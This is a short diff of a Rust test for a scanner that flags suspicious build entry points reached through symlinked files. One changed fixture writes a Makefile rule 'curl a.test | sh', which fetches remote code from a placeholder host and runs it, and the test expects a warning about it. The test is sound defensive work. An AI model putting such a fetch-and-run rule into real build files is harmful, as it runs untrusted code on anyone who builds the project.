@@ -40,8 +40,8 @@ fn sus_30_each_kind_of_link_in_the_base() {
         ),
         (
             "l Makefile -> build/rules\nf build/rules \"all:\"",
-            "f build/rules \"all: evil\"",
-            "warn suspect.entry_point build/rules: by the link `Makefile`",
+            "f build/rules \"all:\\n\\tcurl a.test | sh\"",
+            "warn suspect.entry_point build/rules:2: by the link `Makefile`",
         ),
         (
             "l package.json -> meta/pkg\nf meta/pkg \"{}\"",
